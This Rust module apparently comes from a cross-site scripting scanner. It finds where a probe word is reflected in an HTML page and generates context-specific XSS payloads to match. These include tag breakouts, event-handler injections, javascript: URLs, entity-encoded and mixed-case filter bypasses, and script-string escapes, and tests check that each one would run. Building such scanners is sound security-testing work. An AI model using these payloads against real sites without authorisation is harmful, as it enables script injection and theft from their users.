//! Where a word stands in a page, and what would have to stand there to run.
//!
//! The reader is as forgiving as browsers are where it matters: it never fails, and takes time in proportion to the page.

/// Where a word stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Spot {
    /// Between tags; in an element whose content is no markup (`textarea`) where it is named.
    Text(Option<String>),
    /// In the value of an attribute: its name, its quotation mark, and what stands before the word in it.
    Attribute {
        name: String,
        quote: Option<char>,
        before: String,
    },
    /// In the name of a tag or of an attribute.
    Tag,
    Comment,
    Script(Js),
}

/// Where in a script.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Js {
    Code,
    /// In a string, by its quotation mark.
    String(char),
    LineComment,
    BlockComment,
    /// In a regular expression.
    Expression,
}

/// The most places of one word that are looked at.
const MOST: usize = 8;
/// Elements whose content is text to the parser.
const RAW: &[&str] =
    &["script", "style", "textarea", "title", "noscript", "iframe", "xmp", "noembed", "noframes"];

/// Everywhere a word stands in a page, each kind of place once.
pub(super) fn spots(html: &str, word: &str) -> Vec<Spot> {
    let mut found = Vec::new();
    let mut rest = html;
    // What is in a template is on no page until a script puts it there.
    let mut inert = false;
    let named = |inert: bool| Spot::Text(inert.then(|| "template".to_owned()));
    while let Some((text, after)) = rest.split_once('<') {
        if text.contains(word) {
            add(&mut found, named(inert));
        }
        let tag = |name: &str| after.get(..name.len()).is_some_and(|own| own.eq_ignore_ascii_case(name));
        inert = (inert || tag("template")) && !tag("/template");
        rest = if let Some(comment) = after.strip_prefix("!--") {
            let (inside, behind) = comment.split_once("-->").unwrap_or((comment, ""));
            if inside.contains(word) {
                add(&mut found, Spot::Comment);
            }
            behind
        } else if after.starts_with(|first: char| first.is_ascii_alphabetic()) {
            element(after, word, &mut found)
        } else if after.starts_with(['!', '?', '/']) {
            let (inside, behind) = after.split_once('>').unwrap_or((after, ""));
            if inside.contains(word) {
                add(&mut found, Spot::Tag);
            }
            behind
        } else {
            after
        };
    }
    if rest.contains(word) {
        add(&mut found, named(inert));
    }
    found
}

fn add(found: &mut Vec<Spot>, spot: Spot) {
    if found.len() < MOST && !found.contains(&spot) {
        found.push(spot);
    }
}

/// A start tag, and the content of an element that is no markup; what comes behind it.
fn element<'a>(tag: &'a str, word: &str, found: &mut Vec<Spot>) -> &'a str {
    let end_of_name = |text: &str| text.find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>'));
    let (name, mut rest) = tag.split_at_checked(end_of_name(tag).unwrap_or(tag.len())).unwrap_or((tag, ""));
    if name.contains(word) {
        add(found, Spot::Tag);
    }
    let mut is_code = true;
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
        if rest.is_empty() {
            return rest;
        }
        if let Some(behind) = rest.strip_prefix('>') {
            rest = behind;
            break;
        }
        let stops = |c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>' | '=');
        // A name may begin with `=`.
        let end = rest.char_indices().skip(1).find(|(_, c)| stops(*c)).map_or(rest.len(), |(at, _)| at);
        let (attribute, behind) = rest.split_at_checked(end).unwrap_or((rest, ""));
        if attribute.contains(word) {
            add(found, Spot::Tag);
        }
        rest = behind.trim_start();
        let Some(value) = rest.strip_prefix('=') else { continue };
        let value = value.trim_start();
        let quote = value.chars().next().filter(|first| matches!(first, '"' | '\''));
        let (inside, behind) = match quote {
            Some(quote) => value.get(1..).unwrap_or_default().split_once(quote).unwrap_or((value, "")),
            None => {
                let end = value.find(|c: char| c.is_ascii_whitespace() || c == '>').unwrap_or(value.len());
                value.split_at_checked(end).unwrap_or((value, ""))
            }
        };
        if attribute.eq_ignore_ascii_case("type") {
            let kind = inside.trim().to_ascii_lowercase();
            is_code = kind.is_empty()
                || kind == "module"
                || kind.ends_with("javascript")
                || kind.ends_with("ecmascript");
        }
        if let Some((before, _)) = inside.split_once(word) {
            let name = attribute.to_ascii_lowercase();
            add(found, Spot::Attribute { name, quote, before: before.to_owned() });
        }
        rest = behind;
    }
    let name = name.to_ascii_lowercase();
    if !RAW.contains(&name.as_str()) {
        return rest;
    }
    let end = close_of(rest, &name);
    let (inside, behind) = rest.split_at_checked(end).unwrap_or((rest, ""));
    if name == "script" && is_code {
        script(inside, word).into_iter().for_each(|spot| add(found, Spot::Script(spot)));
    } else if inside.contains(word) {
        add(found, Spot::Text(Some(name)));
    }
    behind
}

/// Where `</name` begins, or the end.
fn close_of(text: &str, name: &str) -> usize {
    let is_close = |at: usize| {
        let tag = text.get(at..).and_then(|rest| rest.strip_prefix("</")).unwrap_or_default();
        tag.get(..name.len()).is_some_and(|own| own.eq_ignore_ascii_case(name))
    };
    text.match_indices("</").map(|(at, _)| at).find(|at| is_close(*at)).unwrap_or(text.len())
}

/// Where a word stands in a script.
pub(super) fn script(text: &str, word: &str) -> Vec<Js> {
    let starts: Vec<usize> = text.match_indices(word).map(|(at, _)| at).take(MOST).collect();
    let mut found = Vec::new();
    let mut state = Js::Code;
    let mut skip = false;
    let mut before = ' ';
    let mut solid = '\0';
    for (at, c) in text.char_indices() {
        if starts.contains(&at) && !found.contains(&state) {
            found.push(state);
        }
        if skip {
            skip = false;
            before = ' ';
            continue;
        }
        state = match (state, c) {
            (Js::Code, '"' | '\'' | '`') => Js::String(c),
            // Where a value may begin, `/` begins an expression; with another behind it, a comment.
            (Js::Code | Js::Expression, '/') if before == '/' => Js::LineComment,
            (Js::Code | Js::Expression, '*') if before == '/' => Js::BlockComment,
            (Js::Code, '/') if "=(,:;![{}?&|\u{0}".contains(solid) => Js::Expression,
            (Js::Expression, '/' | '\n') => Js::Code,
            (Js::String(_) | Js::Expression, '\\') => {
                skip = true;
                state
            }
            (Js::String(quote), c) if c == quote => Js::Code,
            // A string that does not end on its line is an error, and nothing behind it runs.
            (Js::LineComment, '\n') => Js::Code,
            (Js::BlockComment, '/') if before == '*' => Js::Code,
            _ => state,
        };
        before = c;
        if !c.is_whitespace() {
            solid = c;
        }
    }
    found
}

/// Whether a script that a page has in it may run there, by where it stands.
pub(super) fn is_live(html: &str, call: &str) -> bool {
    spots(html, call).iter().any(|spot| match spot {
        Spot::Script(Js::Code | Js::String('`')) => true,
        Spot::Attribute { name, before, .. } if is_url(name) => {
            let scheme: String = before.chars().filter(|c| !c.is_ascii_control() && *c != ' ').collect();
            let scheme = scheme.to_ascii_lowercase();
            scheme.starts_with("javascript:") || scheme.starts_with("data:text/")
        }
        Spot::Attribute { name, before, .. } => {
            (name.len() > 2 && name.starts_with("on") && !before.contains("//")) || name == "srcdoc"
        }
        _ => false,
    })
}

fn is_url(attribute: &str) -> bool {
    matches!(attribute, "href" | "src" | "action" | "formaction" | "data" | "xlink:href" | "poster")
}

/// Something that might run, and what of it must stand on the page for that.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Payload {
    pub(super) text: String,
    pub(super) run: String,
}

/// A script in the forms that filters and places ask for.
pub(super) struct Code {
    /// `f(1)`.
    call: String,
    /// Without parentheses.
    quoted: String,
    /// Without a letter, as attributes read it.
    entities: String,
}

impl Code {
    pub(super) fn new(call: &str, quoted: &str) -> Self {
        let entities = call.chars().map(|letter| format!("&#{};", u32::from(letter))).collect();
        Self { call: call.to_owned(), quoted: quoted.to_owned(), entities }
    }

    fn of(&self, text: String) -> Payload {
        let forms = [&self.quoted, &self.entities, &self.call];
        let run = forms.into_iter().find(|form| text.contains(*form)).unwrap_or(&self.call);
        Payload { run: run.clone(), text }
    }
}

/// What came back of signs that were sent between two words.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Signs {
    pub(super) angle: bool,
    pub(super) double: bool,
    pub(super) single: bool,
}

impl Signs {
    /// What is sent between the words.
    pub(super) const SENT: &'static str = ">\"'<<";
    pub(super) const ALL: Self = Self { angle: true, double: true, single: true };

    /// Reads an answer; nothing where the words are not there.
    pub(super) fn read(page: &str, first: &str, last: &str) -> Option<Self> {
        let (_, rest) = page.split_once(first)?;
        // What ends the value may end the page for a parser, not for this.
        let (between, _) = rest.split_once(last)?;
        Some(Self {
            angle: between.contains('<'),
            double: between.contains('"'),
            single: between.contains('\''),
        })
    }

    const fn quote(self, quote: char) -> bool {
        match quote {
            '"' => self.double,
            '\'' => self.single,
            _ => true,
        }
    }
}

/// What might run at a spot, the likeliest first. Where the signs that it needs do not come through, only what brings them
/// along in another form.
pub(super) fn payloads(spot: &Spot, code: &Code, signs: Signs) -> Vec<Payload> {
    let call = code.call.as_str();
    let mut all: Vec<String> = Vec::new();
    let closed = |closing: &str| -> Vec<String> {
        if signs.angle {
            let all = tags(code).into_iter().map(|tag| format!("{closing}{tag}"));
            // The first of each sign is for a filter that takes one.
            return all.chain([format!("<x>{closing}<img src=x onerror={call}>")]).collect();
        }
        let plain = format!("{closing}<img src=x onerror={call}>");
        let twice =
            percent_encoding::utf8_percent_encode(&plain, percent_encoding::NON_ALPHANUMERIC).to_string();
        let entities = plain.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
        vec![twice, entities]
    };
    match spot {
        Spot::Text(None) => all.extend(closed("")),
        Spot::Text(Some(element)) => all.extend(closed(&format!("</{element}>"))),
        Spot::Comment => all.extend(closed("-->")),
        Spot::Tag => {
            all.push(format!("x src=x onerror={call} onfocus={call} autofocus tabindex=1 "));
            all.push(format!("svg/onload={call}"));
            all.extend(closed(">"));
        }
        Spot::Attribute { name, quote, before } => {
            if is_url(name) && before.trim().is_empty() {
                all.push(format!("javascript:{call}"));
                all.push(format!("JaVa\tScRiPt:{call}"));
                all.push(format!("data:text/javascript,{call}"));
                all.push(format!("javajavascript:script:{call}"));
                all.push(format!("javascript:{}", code.quoted));
            }
            if name.len() > 2 && name.starts_with("on") {
                all.extend(codes(call, script(&format!("{before}\u{1}"), "\u{1}").first().copied()));
                all.push(format!("&#39;-{call}-&#39;"));
            }
            if name == "srcdoc" {
                all.push(format!("&lt;img src=x onerror={call}&gt;"));
                all.extend(tags(code));
            }
            let mark = quote.map(String::from).unwrap_or_default();
            let space = if quote.is_some() { "" } else { "x" };
            if quote.is_none_or(|quote| signs.quote(quote)) {
                all.push(format!("{space}{mark} onfocus={call} autofocus tabindex=1 x={mark}"));
                if signs.angle {
                    all.extend(closed(&format!("{mark}>")));
                }
                all.push(format!("{space}{mark} autofocus onfocus={call} x={mark}"));
                all.push(format!("{space}{mark}autofocus/onfocus={mark}{}", code.entities));
                all.push(format!("{space}{mark} onmouseover={} x={mark}", code.quoted));
                all.push(format!("{space}{mark} onpointerenter={call} x={mark}"));
            } else {
                all.extend(closed(&format!("{mark}>")));
            }
        }
        Spot::Script(at) => {
            all.extend(codes(call, Some(*at)));
            all.extend(codes(&code.quoted, Some(*at)));
            if signs.angle {
                all.extend(
                    ["</script>", "</ScRiPt>"].iter().map(|end| format!("{end}<img src=x onerror={call}>")),
                );
                all.push(format!("</script><img src=x onerror={}>", code.entities));
            }
        }
    }
    let mut met = std::collections::BTreeSet::new();
    all.retain(|text| met.insert(text.clone()));
    all.into_iter().map(|text| code.of(text)).collect()
}

/// What runs from within a script.
fn codes(call: &str, at: Option<Js>) -> Vec<String> {
    match at {
        Some(Js::String('`')) => vec![format!("${{{call}}}"), format!("`;{call}//")],
        Some(Js::String(quote)) => vec![
            format!("{quote}-{call}-{quote}"),
            format!("{quote};{call}//"),
            format!("\\{quote};{call}//"),
            format!("{quote});{call}//"),
            format!("{quote}}};{call};if(1){{//"),
        ],
        Some(Js::Expression) => vec![format!("x/;{call}//"), format!("x/-{call}-/x")],
        Some(Js::LineComment) => vec![format!("\n{call}//")],
        Some(Js::BlockComment) => vec![format!("*/;{call};/*")],
        Some(Js::Code) | None => {
            vec![call.to_owned(), format!("1;{call}//"), format!(";{call};"), format!("1);{call}//")]
        }
    }
}

/// Markup that runs between tags; the later ones pass by filters.
fn tags(code: &Code) -> Vec<String> {
    let Code { call, quoted, entities } = code;
    vec![
        format!("<img src=x onerror={call}>"),
        format!("<script>{call}</script>"),
        format!("<svg onload={call}>"),
        format!("<svg/onload={entities}>"),
        format!("<details open ontoggle={call}>"),
        format!("<svg/onload={quoted}>"),
        format!("<scr<script>ipt>{call}</scr</script>ipt>"),
        format!("<svg/oNlOaD={call}//"),
        format!("<b onmouseover={call}>x"),
        format!("<ScRiPt>{call}</ScRiPt >"),
        format!("<iframe src=javascript:parent.{call}>"),
        format!("<a href=javascript:{call}>x</a>"),
    ]
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn attribute(name: &str, quote: Option<char>, before: &str) -> Spot {
        Spot::Attribute { name: name.to_owned(), quote, before: before.to_owned() }
    }

    #[test]
    fn a_word_is_found_where_it_stands() {
        for (html, spot) in [
            ("<p>aW</p>", Spot::Text(None)),
            ("W", Spot::Text(None)),
            ("a < b W", Spot::Text(None)),
            ("<title>x W</title>", Spot::Text(Some("title".to_owned()))),
            ("<TEXTAREA a=1><b W</textarea>", Spot::Text(Some("textarea".to_owned()))),
            ("<input value=\"a W\">", attribute("value", Some('"'), "a ")),
            ("<input value='W'/>", attribute("value", Some('\''), "")),
            ("<input value = W>", attribute("value", None, "")),
            ("<a\nHREF='/x?W'>", attribute("href", Some('\''), "/x?")),
            ("<aW>", Spot::Tag),
            ("<a W=1>", Spot::Tag),
            ("<!-- <b> W -->", Spot::Comment),
            ("<template><b>W</b></template>", Spot::Text(Some("template".to_owned()))),
            ("<template></template>W", Spot::Text(None)),
            ("<script type='application/json'>'W'</script>", Spot::Text(Some("script".to_owned()))),
            ("<script>var a = 1; W</script>", Spot::Script(Js::Code)),
            ("<script>a('it\\'s W')</script>", Spot::Script(Js::String('\''))),
            ("<script>a // W\nb</script>", Spot::Script(Js::LineComment)),
            ("<script>/* W */</script>", Spot::Script(Js::BlockComment)),
            ("<script>'</p>' + `W`</SCRIPT>", Spot::Script(Js::String('`'))),
            ("<script>a = /x'W/; b</script>", Spot::Script(Js::Expression)),
            ("<script>a = 6 / 2 + W / 3</script>", Spot::Script(Js::Code)),
        ] {
            assert_eq!(spots(html, "W"), [spot], "{html}");
        }
        assert_eq!(spots("<p>nothing</p>", "W"), []);
    }

    #[test]
    fn what_may_run_is_told_from_what_may_not() {
        for live in [
            "<img src=x onerror=W(1)>",
            "<ScRiPt>W(1)</script>",
            "<a href='java\tscript:W(1)'>",
            "<script>a='';W(1)//'</script>",
            "<p title=\"\" onfocus=W(1) x=\"\">",
        ] {
            assert!(is_live(live, "W(1)"), "{live}");
        }
        for dead in [
            "&lt;img src=x onerror=W(1)&gt;",
            "<textarea><img src=x onerror=W(1)></textarea>",
            "<!-- <script>W(1)</script> -->",
            "<p title='<img src=x onerror=W(1)>'>",
            "<script>a = \"\\\";W(1)//\"</script>",
            "<a href='/x?javascript:W(1)'>",
            "<a href='x' title='javascript:W(1)'>",
        ] {
            assert!(!is_live(dead, "W(1)"), "{dead}");
        }
    }

    #[test]
    fn signs_are_read_between_the_words() {
        let read = |page| Signs::read(page, "A", "B");
        assert_eq!(
            read("xA&gt;&quot;'&lt;&lt;By"),
            Some(Signs { angle: false, double: false, single: true })
        );
        assert_eq!(read("xA>\"'&lt;<By"), Some(Signs::ALL));
        assert_eq!(read("nothing"), None);
    }

    #[test]
    fn every_spot_has_something_that_would_run() {
        let pages = [
            "<p>W</p>",
            "<title>W</title>",
            "<textarea>W</textarea>",
            "<i a='W'>",
            "<i a=\"W\">",
            "<i a=W>",
            "<a href='W'>",
            "<i W>",
            "<!-- W -->",
            "<script>W</script>",
            "<script>a='W'</script>",
            "<script>a=\"W\"</script>",
            "<script>a=`W`</script>",
            "<script>// W\n</script>",
            "<script>/* W */</script>",
            "<script>a=/W/</script>",
        ];
        for page in pages {
            let spot = spots(page, "W").remove(0);
            let runs = payloads(&spot, &Code::new("f(1)", "f`1`"), Signs::ALL);
            let live = |one: &Payload| is_live(&page.replace('W', &one.text), &one.run);
            assert!(runs.iter().any(live), "{page}");
        }
    }

    proptest! {
        #[test]
        fn any_page_is_read(text in "[<>!/a-zW=\"' \\\\`*\n-]{0,80}") {
            let _ = (spots(&text, "W"), is_live(&text, "W"));
        }
    }
}
